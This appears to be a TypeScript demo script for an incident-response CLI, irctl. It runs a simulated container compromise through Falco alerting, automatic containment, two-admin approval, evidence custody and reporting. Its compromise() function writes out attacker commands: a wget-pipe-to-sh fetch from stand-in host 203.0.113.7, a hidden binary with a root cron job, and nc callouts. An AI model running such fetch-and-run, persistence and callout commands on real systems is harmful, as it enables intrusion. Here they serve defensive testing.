// The demo incident, end to end, with the real parts: a Docker engine, `irctl serve`, the shipped
// container-compromise runbook, the CLI a responder would type, and the reports at the end.
// Run through scripts/demo.sh (npm run demo), which provides DOCKER_HOST.
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join, resolve } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import Docker from 'dockerode';
import { parseDocument, YAMLSeq } from 'yaml';
import { clientForUrl } from '../src/docker/hosts.js';
import { newDemoRun, removeDemoResources } from './demo-resources.js';

const ROOT = resolve(fileURLToPath(new URL('..', import.meta.url)));
const OUT = resolve(process.env.IRCTL_DEMO_OUT ?? join(ROOT, 'demo-output'));
const HOME = join(OUT, 'state');
const EVIDENCE = join(OUT, 'evidence');
const RUNBOOKS = join(OUT, 'runbooks');
const IMAGE = process.env.IRCTL_TEST_IMAGE ?? 'irctl-test/busybox:1';
const RUN = newDemoRun(); // unique names: the engine may be shared
const WEB = RUN.web;
const NETWORK = RUN.network;
const ADMINS = ['lead-bob', 'lead-carol'];

const say = (text: string) => process.stdout.write(`\n\x1b[1m▶ ${text}\x1b[0m\n`);
const docker = (): Docker => clientForUrl(process.env.DOCKER_HOST ?? 'unix:///var/run/docker.sock');

/** Run the real CLI as a responder would, showing its output; returns its exit code and stdout. */
function irctl(args: string[], options: { as?: string; quiet?: boolean; expect?: number[] } = {}): { code: number; stdout: string } {
  const argv = [join(ROOT, 'bin/irctl.js'), '--home', HOME, '--evidence-dir', EVIDENCE, '--runbooks', RUNBOOKS, ...(options.as ? ['--as', options.as] : []), ...args];
  if (!options.quiet) process.stdout.write(`\x1b[2m$ irctl ${options.as ? `--as ${options.as} ` : ''}${args.join(' ')}\x1b[0m\n`);
  const result = spawnSync(process.execPath, argv, { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  if (!options.quiet) process.stdout.write(result.stdout + result.stderr);
  const code = result.status ?? 1;
  if (!(options.expect ?? [0]).includes(code)) throw new Error(`irctl ${args.join(' ')} exited ${code}:\n${result.stdout}${result.stderr}`);
  return { code, stdout: result.stdout };
}

async function freePort(): Promise<number> {
  return new Promise((resolvePort, reject) => {
    const server = createServer();
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      server.close(() => resolvePort(port));
    });
    server.on('error', reject);
  });
}

/**
 * The shipped container-compromise runbook, with three demo settings so it ends in about a minute:
 * a Falco trigger, a 10 s recurrence watch instead of 15 min, and a two-person recovery approval.
 */
function demoRunbook(): string {
  const doc = parseDocument(readFileSync(join(ROOT, 'runbooks/container-compromise.yaml'), 'utf8'));
  (doc.getIn(['triggers']) as YAMLSeq).add(
    doc.createNode({ source: 'falco', rule: 'Drop and execute new binary in container', priority: '>= warning', inputs: { container: "${{ alert.output_fields['container.id'] }}" } }),
  );
  doc.setIn(['inputs', 'watch_for', 'default'], '10s');
  const steps = doc.getIn(['steps']) as YAMLSeq;
  const gate = steps.items.findIndex((item) => doc.getIn(['steps', steps.items.indexOf(item), 'id']) === 'approve-recovery');
  doc.setIn(['steps', gate, 'approval', 'quorum'], 2);
  mkdirSync(RUNBOOKS, { recursive: true });
  const file = join(RUNBOOKS, 'container-compromise.yaml');
  writeFileSync(file, `# demo copy of runbooks/container-compromise.yaml: Falco trigger, watch_for 10s, recovery quorum 2\n${doc.toString()}`);
  return file;
}

async function startWebService(engine: Docker): Promise<Docker.Container> {
  await engine.createNetwork({ Name: NETWORK, Labels: RUN.label });
  const web = await engine.createContainer({
    name: WEB,
    Image: IMAGE,
    Env: ['APP_ENV=production', 'DATABASE_PASSWORD=hunter2'],
    Labels: { ...RUN.label, 'irctl.protect': 'true', 'com.docker.compose.project': 'demo', 'com.docker.compose.service': 'web' },
    HostConfig: { NetworkMode: NETWORK, RestartPolicy: { Name: 'unless-stopped' } },
  });
  await web.start();
  return web;
}

/** What an attacker does: a shell, a dropped binary and cron job, an outbound connection attempt. */
async function compromise(web: Docker.Container): Promise<void> {
  // Lines written to /proc/1/fd/1 land in the container's own log, as the web server's would.
  const script = [
    `echo '203.0.113.7 - - "GET /cgi-bin/status?cmd=wget%20http://203.0.113.7/k%20-O-|sh HTTP/1.1" 200' > /proc/1/fd/1`,
    `echo 'exec: wget http://203.0.113.7/k -O- | sh' > /proc/1/fd/1`,
    'mkdir -p /tmp/.x && printf "#!/bin/sh\\nwhile :; do :; done\\n" > /tmp/.x/kworkerd && chmod +x /tmp/.x/kworkerd',
    'mkdir -p /etc/cron.d && echo "* * * * * root /tmp/.x/kworkerd" > /etc/cron.d/sync',
    `(nc -w 1 203.0.113.7 4444 </dev/null || echo 'outbound connect to 203.0.113.7:4444 failed' > /proc/1/fd/2)`,
    'nc -l -p 4444 >/dev/null 2>&1 &',
  ].join('; ');
  const exec = await web.exec({ Cmd: ['sh', '-c', script], AttachStdout: true, AttachStderr: true });
  const stream = await exec.start({});
  await new Promise<void>((done) => {
    stream.on('end', done);
    stream.resume();
  });
}

async function main(): Promise<void> {
  const engine = docker();
  rmSync(OUT, { recursive: true, force: true });
  mkdirSync(HOME, { recursive: true });
  writeFileSync(
    join(HOME, 'roles.yaml'),
    `actors:\n  oncall-alice: operator\n  ${ADMINS.map((a) => `${a}: admin`).join('\n  ')}\n  falcosidekick: operator\n  irctl-service: admin\n`,
  );

  say('runbook: the shipped container-compromise, with a Falco trigger, a 10 s watch and a quorum of 2');
  irctl(['runbook', 'validate', demoRunbook()]);

  try {
    await runDemo(engine);
  } finally {
    // the demo's own resources only, on success and on failure alike
    const removed = await removeDemoResources(engine, RUN);
    console.log(`removed what this demo created: ${removed.join(', ') || 'nothing left'}`);
  }
}

async function runDemo(engine: Docker): Promise<void> {
  say(`starting the "web" service ${WEB} (${IMAGE}) on network ${NETWORK}`);
  const web = await startWebService(engine);
  const webId = (await web.inspect()).Id;

  say('creating an API key for Falcosidekick and starting irctl serve');
  const key = irctl(['keys', 'create', '--actor', 'falcosidekick', '--json'], { as: ADMINS[0], quiet: true });
  const apiKey = (JSON.parse(key.stdout) as { key: string }).key;
  const port = await freePort();
  const server = spawn(process.execPath, [join(ROOT, 'bin/irctl.js'), '--home', HOME, '--evidence-dir', EVIDENCE, '--runbooks', RUNBOOKS, '--as', 'irctl-service', 'serve', '--port', String(port)], {
    env: { ...process.env, NO_COLOR: '1' },
    stdio: ['ignore', 'inherit', 'inherit'],
  });
  const base = `http://127.0.0.1:${port}`;
  try {
    for (let i = 0; ; i++) {
      if ((await fetch(`${base}/healthz`).catch(() => undefined))?.ok) break;
      if (server.exitCode !== null) throw new Error(`irctl serve exited with code ${server.exitCode}`);
      if (i > 100) throw new Error('irctl serve did not come up');
      await delay(100);
    }

    say('an attacker gets a shell in the container, drops a binary and a cron job, and calls out');
    await compromise(web);

    say('Falco sees it and Falcosidekick posts the alert to irctl');
    const alert = {
      uuid: 'demo-0001',
      output: `Drop and execute new binary in container (container_id=${webId.slice(0, 12)} proc.cmdline=sh -c ...)`,
      priority: 'Critical',
      rule: 'Drop and execute new binary in container',
      time: new Date().toISOString(),
      source: 'syscall',
      hostname: 'demo-host',
      tags: ['container', 'mitre_persistence'],
      output_fields: { 'container.id': webId.slice(0, 12), 'container.name': WEB, 'proc.cmdline': 'sh -c ...', 'evt.time': Date.now() },
    };
    const response = await fetch(`${base}/v1/alerts/falco`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${apiKey}` },
      body: JSON.stringify(alert),
    });
    const accepted = (await response.json()) as { alerts?: { outcomes: { result: string; incidentId?: string }[] }[] };
    const incidentId = accepted.alerts?.flatMap((a) => a.outcomes).find((o) => o.incidentId)?.incidentId;
    if (!response.ok || !incidentId) throw new Error(`the alert opened no incident: ${response.status} ${JSON.stringify(accepted)}`);
    console.log(`alert accepted (${response.status}); incident ${incidentId}`);

    say('automatic containment runs: volatile evidence, isolate, pause, logs, diff, files');
    const waiting = await waitForStatus(base, apiKey, incidentId, ['waiting', 'succeeded', 'failed', 'rolled_back', 'aborted']);
    const state = (await web.inspect()).State;
    const networks = Object.keys((await web.inspect()).NetworkSettings.Networks);
    console.log(`container paused: ${state.Paused}; networks now: ${networks.join(', ')}; run waits at "${waiting.current_step}"`);
    irctl(['status', incidentId], { as: 'oncall-alice' });

    say('the on-call responder takes over: the forensic image, filesystem export, host logs and investigation');
    irctl(['resume', incidentId], { as: 'oncall-alice', expect: [0, 3] });

    say('two admins approve recovery (quorum 2) and the run recreates the service from the clean image');
    irctl(['approve', incidentId, '--comment', 'evidence captured; rebuild from the clean image'], { as: ADMINS[0], expect: [0, 3] });
    irctl(['approve', incidentId, '--comment', 'agreed', '--resume'], { as: ADMINS[1], expect: [0, 1, 3] });
    irctl(['status', incidentId], { as: 'oncall-alice', expect: [0] });

    say('evidence and the chain of custody');
    irctl(['evidence', 'ls', incidentId], { as: 'oncall-alice' });
    irctl(['findings', incidentId], { as: 'oncall-alice', expect: [0] });
    irctl(['custody', 'verify', incidentId], { as: 'oncall-alice' });

    say('post-incident reports and the evidence bundle');
    irctl(['report', incidentId, '--format', 'html', '-o', join(OUT, 'report.html')], { as: 'oncall-alice' });
    irctl(['report', incidentId, '--format', 'md', '-o', join(OUT, 'report.md')], { as: 'oncall-alice' });
    // what a receiver pins: the custody public key and the bundle's signed head (export's stdout)
    writeFileSync(join(OUT, 'custody.pub'), irctl(['custody', 'pubkey'], { as: 'oncall-alice', quiet: true }).stdout);
    const head = irctl(['export', incidentId, '-o', join(OUT, 'incident.tar.gz')], { as: 'oncall-alice' }).stdout;
    writeFileSync(join(OUT, 'bundle-head.txt'), head);
    irctl(['verify-bundle', join(OUT, 'incident.tar.gz'), '--pubkey', join(OUT, 'custody.pub'), '--checkpoint', join(OUT, 'bundle-head.txt')]);

    say('done');
    console.log(`incident:       ${incidentId}`);
    console.log(`HTML report:    ${join(OUT, 'report.html')}`);
    console.log(`Markdown:       ${join(OUT, 'report.md')}`);
    console.log(`bundle:         ${join(OUT, 'incident.tar.gz')}`);
    console.log(`evidence:       ${join(EVIDENCE, incidentId)}`);
    console.log(`state (SQLite): ${join(HOME, 'irctl.db')}`);
  } finally {
    server.kill('SIGTERM');
    await new Promise((done) => server.once('exit', done));
  }
}

interface IncidentView {
  status: string;
  current_step: string | null;
}

async function waitForStatus(base: string, apiKey: string, incidentId: string, statuses: string[]): Promise<IncidentView> {
  for (let i = 0; i < 600; i++) {
    const response = await fetch(`${base}/v1/incidents/${incidentId}`, { headers: { authorization: `Bearer ${apiKey}` } });
    if (response.ok) {
      const body = (await response.json()) as { incident?: IncidentView } & IncidentView;
      const view = body.incident ?? body;
      if (statuses.includes(view.status)) return view;
    }
    await delay(200);
  }
  throw new Error(`incident ${incidentId} did not reach ${statuses.join('/')}`);
}

main().catch((error) => {
  console.error(`\ndemo failed: ${error instanceof Error ? error.message : String(error)}`);
  process.exitCode = 1;
});
